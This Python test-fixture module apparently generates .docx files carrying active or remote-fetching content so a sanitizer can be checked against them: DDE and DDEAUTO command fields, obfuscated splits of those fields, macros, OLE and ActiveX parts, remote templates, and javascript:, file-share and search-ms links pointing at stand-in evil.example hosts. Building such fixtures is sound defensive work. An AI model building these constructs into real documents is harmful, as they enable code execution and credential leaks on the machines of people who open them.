"""Templates that hold something active, or fetch something when somebody opens the result."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Final

from attacks.files import EXTERNAL, KIND, OFFICE, line, relation, relations, run, word, zipped

if TYPE_CHECKING:
    from collections.abc import Callable

_URL: Final = "https://evil.example/x"


def _field(*pieces: str, inner: str = "") -> str:
    codes = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return f"<w:p>{marks[0]}{inner}{codes}{marks[1]}</w:p>"


_FIELDS: Final = {
    "field: DDE": 'DDE cmd "/c evil" x',
    "field: DDEAUTO": 'DDEAUTO "C:\\\\evil.exe" x',
    "field: INCLUDETEXT": f'INCLUDETEXT "{_URL}"',
    "field: INCLUDEPICTURE": f'INCLUDEPICTURE "{_URL}" \\d',
    "field: INCLUDE": 'INCLUDE "\\\\\\\\evil\\\\x"',
    "field: IMPORT": 'IMPORT "\\\\\\\\evil\\\\x.png"',
    "field: LINK": "LINK Excel.Sheet.8 evil.xls R1C1",
    "field: EMBED": "EMBED evil.Package",
    "field: MACROBUTTON": "MACROBUTTON evil Click here",
    "field: GOTOBUTTON": "GOTOBUTTON evil Click",
    "field: DATABASE": f'DATABASE \\d "{_URL}" \\c "DSN=evil"',
    "field: MERGEFIELD": "MERGEFIELD evil",
    "field: NEXT": "NEXT evil",
    "field: RD": 'RD "evil.docx"',
    "field: AUTOTEXT": "AUTOTEXT evil",
    "field: ADDIN": "ADDIN evil",
    "field: HYPERLINK to a file": 'HYPERLINK "file:///evil.exe"',
    "field: HYPERLINK to a share": 'HYPERLINK "\\\\\\\\evil\\\\share"',
    "field: HYPERLINK to script": 'HYPERLINK "javascript:evil()"',
    "field: PRINT": 'PRINT "evil"',
    "field: CONTROL": "CONTROL Forms.evil.1 \\s",
    "field: HTMLCONTROL": "HTMLActiveX evil",
    "field: FILLIN": 'FILLIN "evil"',
    "field: ASK": 'ASK x "evil"',
    "field: USERNAME": 'USERNAME "evil"',
    "field: QUOTE of a DDE": "QUOTE 68 68 69 evil",
    "field: SET": 'SET x "evil"',
}


def _code(words: str) -> bytes:
    return zipped(word(_field(words) + line()))


def _quoted(words: str) -> bytes:
    escaped = words.replace('"', "&quot;")
    return zipped(word(f'<w:p><w:fldSimple w:instr=" {escaped} ">{run("x")}</w:fldSimple></w:p>'))


def _split() -> bytes:
    return zipped(word(_field("D", "DE", "AU", "TO evil", " x")))


def _over_paragraphs() -> bytes:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    codes = [f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in ("DDE", "AUTO evil")]
    return zipped(word(f"<w:p>{begin}{codes[0]}</w:p><w:p>{codes[1]}{end}</w:p>"))


def _nested() -> bytes:
    quote = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 65 85 '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return zipped(word(_field(" evil x", inner=quote)))


def _lower_case() -> bytes:
    return zipped(word(_field('  \t"DdeAuto" evil')))


def _deleted_between() -> bytes:
    body = _field("DDE", "AUTO evil").replace(
        "</w:instrText></w:r><w:r><w:instrText",
        "</w:instrText></w:r><w:del><w:r><w:delInstrText>x</w:delInstrText></w:r></w:del>"
        "<w:r><w:instrText",
        1,
    )
    return zipped(word(body))


def _with(
    kind: str, target: str, mode: str = "", element: str = "", content: bytes | None = b"evil"
) -> bytes:
    more = {f"word/{target}": content} if not mode and content is not None else {}
    rows = (relation("rId9", kind, target, mode),)
    types = (
        f'<Override PartName="/word/{target}" ContentType="application/x-evil"/>' if more else ""
    )
    return zipped(word(line() + element, rows=rows, types=types, more=more))


def _settings(element: str, row: str = "") -> bytes:
    more = {"word/_rels/settings.xml.rels": relations(row)} if row else {}
    return zipped(word(inner={"word/settings.xml": element}, more=more))


def _web_settings() -> bytes:
    frames = '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'
    xml = f'<w:webSettings xmlns:w="{KIND}" xmlns:r="{OFFICE}">{frames}</w:webSettings>'
    xml = xml.replace(KIND, "http://schemas.openxmlformats.org/wordprocessingml/2006/main")
    more = {
        "word/webSettings.xml": xml.encode(),
        "word/_rels/webSettings.xml.rels": relations(relation("rId1", "frame", _URL, EXTERNAL)),
    }
    rows = (relation("rId9", "webSettings", "webSettings.xml"),)
    return zipped(word(rows=rows, more=more))


def _bound() -> bytes:
    binding = '<w:dataBinding w:xpath="/evil" w:storeItemID="{evil}" w:prefixMappings="xmlns:e=\'http://evil.example\'"/>'
    control = f"<w:sdt><w:sdtPr>{binding}</w:sdtPr><w:sdtContent>{line()}</w:sdtContent></w:sdt>"
    rows = (relation("rId9", "customXml", "../customXml/item1.xml"),)
    more = {"customXml/item1.xml": b"<e xmlns='http://evil.example'>evil</e>"}
    return zipped(word(control, rows=rows, more=more))


def _embedded_in_chart() -> bytes:
    more = {
        "word/charts/chart1.xml": b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/'
        b'drawingml/2006/chart"/>',
        "word/charts/_rels/chart1.xml.rels": relations(
            relation("rId1", "oleObject", "file:///evil.xlsx", EXTERNAL)
        ),
    }
    return zipped(word(rows=(relation("rId9", "chart", "charts/chart1.xml"),), more=more))


def _in_run(content: str) -> bytes:
    return zipped(word(f"<w:p><w:r>{content}</w:r></w:p>" + line()))


def _vml(attribute: str) -> bytes:
    return _in_run(f"<w:pict><v:shape {attribute}/></w:pict>")


def _click(rows: tuple[str, ...]) -> bytes:
    drawing = (
        '<w:drawing><wp:inline><wp:docPr id="1" name="x"><a:hlinkClick r:id="rId9" '
        'action="ppaction://program?evil"/></wp:docPr></wp:inline></w:drawing>'
    )
    return zipped(word(f"<w:p><w:r>{drawing}</w:r></w:p>", rows=rows))


def _macros(kind: str) -> bytes:
    parts = word()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        f"{KIND}.document.main+xml".encode(), kind.encode()
    )
    return zipped(parts)


def _loose_macros() -> bytes:
    return zipped(word(more={"word/vbaProject.bin": b"evil", "word/vbaData.xml": b"<evil/>"}))


def _signed() -> bytes:
    parts = word(
        more={"_xmlsignatures/origin.sigs": b"evil", "_xmlsignatures/sig1.xml": b"<evil/>"}
    )
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"
    row = relation("rId9", kind, "_xmlsignatures/origin.sigs").encode()
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"</Rel", row + b"</Rel")
    return zipped(parts)


_MICROSOFT: Final = "http://schemas.microsoft.com/office"
_FONT: Final = (
    f'<w:fonts xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{OFFICE}"><w:font w:name="x"><w:embedRegular r:id="rId1"/></w:font></w:fonts>'
)


def _fonts() -> bytes:
    more = {
        "word/fontTable.xml": _FONT.encode(),
        "word/_rels/fontTable.xml.rels": relations(relation("rId1", "font", "fonts/f.odttf")),
        "word/fonts/f.odttf": b"evil" * 100,
    }
    return zipped(word(rows=(relation("rId9", "fontTable", "fontTable.xml"),), more=more))


ACTIVE: Final[dict[str, Callable[[], bytes]]] = {
    **{name: partial(_code, words) for name, words in _FIELDS.items()},
    **{f"{name}, simple": partial(_quoted, words) for name, words in list(_FIELDS.items())[:9]},
    "field: split over runs": _split,
    "field: split over paragraphs": _over_paragraphs,
    "field: its name made by a field": _nested,
    "field: lower case and quoted": _lower_case,
    "field: deleted words within": _deleted_between,
    "active: macros": partial(
        _with, f"{_MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin"
    ),
    "active: macros that nothing refers to": _loose_macros,
    "active: .docm renamed": partial(
        _macros, "application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "active: .dotm renamed": partial(
        _macros, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
    ),
    "active: OLE object": partial(_with, "oleObject", "embeddings/evil.bin"),
    "active: OLE link": partial(_with, "oleObject", "file:///evil.xls", EXTERNAL),
    "active: OLE without relationship": partial(
        _in_run, '<w:object><o:OLEObject Type="Link" ProgID="evil"/></w:object>'
    ),
    "active: ActiveX": partial(_with, "control", "activeX/evil.xml"),
    "active: ActiveX binary": partial(
        _with, f"{_MICROSOFT}/2006/relationships/activeXControlBinary", "activeX/evil.bin"
    ),
    "active: embedded package": partial(_with, "package", "embeddings/evil.xlsx"),
    "active: altChunk": partial(_with, "aFChunk", "evil.html", element='<w:altChunk r:id="rId9"/>'),
    "active: altChunk under another name": partial(
        _with, "https://evil.example/other", "evil.html", element='<w:altChunk r:id="rId9"/>'
    ),
    "active: sub-document": partial(
        _with, "subDocument", "evil.docx", EXTERNAL, '<w:subDoc r:id="rId9"/>'
    ),
    "active: remote template": partial(_with, "attachedTemplate", _URL, EXTERNAL),
    "active: remote template in settings": partial(
        _settings,
        '<w:attachedTemplate r:id="rId1"/>',
        relation("rId1", "attachedTemplate", _URL, EXTERNAL),
    ),
    "active: mail merge source": partial(
        _settings,
        '<w:mailMerge><w:connectString w:val="evil"/><w:query w:val="evil"/>'
        '<w:dataSource r:id="rId1"/></w:mailMerge>',
        relation("rId1", "mailMergeSource", "file:///evil.mdb", EXTERNAL),
    ),
    "active: mail merge without relationship": partial(
        _settings, '<w:mailMerge><w:connectString w:val="Provider=evil"/></w:mailMerge>'
    ),
    "active: fields updated on opening": partial(
        _settings, '<w:updateFields w:val="true"/><w:docVars><w:docVar w:name="evil"/></w:docVars>'
    ),
    "active: transform on saving": partial(
        _settings,
        '<w:saveThroughXslt r:id="rId1" w:solutionID="evil"/>',
        relation("rId1", "transform", _URL, EXTERNAL),
    ),
    "active: schema library": partial(
        _settings, '<w:attachedSchema w:val="http://evil.example/s"/>'
    ),
    "active: frames of web settings": _web_settings,
    "active: data bound to a namespace": _bound,
    "active: chart with linked workbook": _embedded_in_chart,
    "active: signature": _signed,
    "active: printer settings": partial(_with, "printerSettings", "printerSettings1.bin"),
    "active: embedded font": _fonts,
    "active: web extension": partial(
        _with, f"{_MICROSOFT}/2011/relationships/webextensiontaskpanes", "evil.xml"
    ),
    "active: custom ribbon": partial(
        _with, f"{_MICROSOFT}/2006/relationships/ui/extensibility", "customUI.xml"
    ),
    "active: toolbar commands": partial(
        _with, f"{_MICROSOFT}/2006/relationships/attachedToolbars", "evil.bin"
    ),
    "link: file": partial(_with, "hyperlink", "file:///C:/evil.exe", EXTERNAL),
    "link: share": partial(_with, "hyperlink", "\\\\evil\\share", EXTERNAL),
    "link: share with slashes": partial(_with, "hyperlink", "//evil/share", EXTERNAL),
    "link: javascript": partial(_with, "hyperlink", "javascript:evil()", EXTERNAL),
    "link: data": partial(_with, "hyperlink", "data:text/html,evil", EXTERNAL),
    "link: ms-word protocol": partial(_with, "hyperlink", f"ms-word:ofe|u|{_URL}", EXTERNAL),
    "link: search-ms protocol": partial(_with, "hyperlink", "search-ms:evil", EXTERNAL),
    "link: javascript behind a value": partial(
        _with, "hyperlink", "javascript:evil({{ pack.title }})", EXTERNAL
    ),
    "link: share behind a value": partial(
        _with, "hyperlink", "file://evil/%7B%7B pack.title %7D%7D", EXTERNAL
    ),
    "link: base of all links": partial(
        lambda: zipped(word(core="<dc:title>T</dc:title><cp:HyperlinkBase>evil</cp:HyperlinkBase>"))
    ),
    "link: click on a drawing": partial(
        _click, (relation("rId9", "hyperlink", "file:///evil", EXTERNAL),)
    ),
    "link: program behind a drawing": partial(_click, ()),
    "remote: picture": partial(_with, "image", f"{_URL}.png", EXTERNAL),
    "remote: picture on a share": partial(_with, "image", "file://evil/x.png", EXTERNAL),
    "remote: VML picture": partial(_vml, f'href="{_URL}" src="{_URL}"'),
    "remote: VML image data": partial(
        _in_run, f'<w:pict><v:shape><v:imagedata src="{_URL}"/></v:shape></w:pict>'
    ),
    "remote: frame": partial(_with, "frame", _URL, EXTERNAL),
    "remote: font": partial(_with, "font", _URL, EXTERNAL),
    "remote: unknown kind": partial(_with, "https://evil.example/kind", _URL, EXTERNAL),
}
